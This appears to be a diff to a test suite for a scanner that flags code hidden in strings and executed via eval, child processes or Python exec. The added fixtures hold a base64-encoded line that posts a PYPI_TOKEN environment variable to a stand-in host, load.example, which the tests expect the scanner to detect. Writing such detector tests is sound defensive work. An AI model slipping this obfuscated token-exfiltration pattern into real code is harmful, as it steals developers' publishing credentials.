@@ -21,6 +21,10 @@ describe('text that is run as code', () => {
     ['a function that returns', `\nFunction(${JSON.stringify(`return ${inner}`)})();`],
     ['a context', `\nrequire('vm').runInThisContext(${JSON.stringify(inner)});`],
     ['the loader of modules', `\nmodule._compile(${JSON.stringify(inner)}, 'x.js');`],
+    [
+      'a program of its own',
+      `\nrequire('child_process').spawn(process.execPath, ['-e', ${JSON.stringify(inner)}]);`,
+    ],
     ['text in text', `\neval(${JSON.stringify(`eval(${JSON.stringify(inner)})`)});`],
     [
       'a decoder of the file',
@@ -32,6 +36,25 @@ describe('text that is run as code', () => {
     const facts = factsIn(code);
     expect(facts).toContain('network.connect load.example 2');
     expect(facts).toContain('environment.read NPM_TOKEN 2');
+  });
+
+  it.each([
+    ['exec', (text: string) => `exec(base64.b64decode("${text}"))`],
+    [
+      'an interpreter of its own',
+      (text: string) =>
+        `subprocess.Popen([sys.executable, "-c", base64.b64decode("${text}").decode()])`,
+    ],
+  ])('by %s in Python is code of the file', (_name, run) => {
+    const text = Buffer.from(
+      'import os, requests\nrequests.post("https://load.example/x", data=os.environ["PYPI_TOKEN"])\n',
+    ).toString('base64');
+    const code = `import base64, subprocess, sys\n${run(text)}\n`;
+    const facts = readCodeFile('a.py', code).observations.map(({ kind, attributes, line }) =>
+      [kind, attributes['destination'] ?? attributes['name'] ?? '', line].join(' '),
+    );
+    expect(facts).toContain('network.connect load.example 2');
+    expect(facts).toContain('environment.read PYPI_TOKEN 2');
   });
 
   it('waits when what runs it waits', () => {
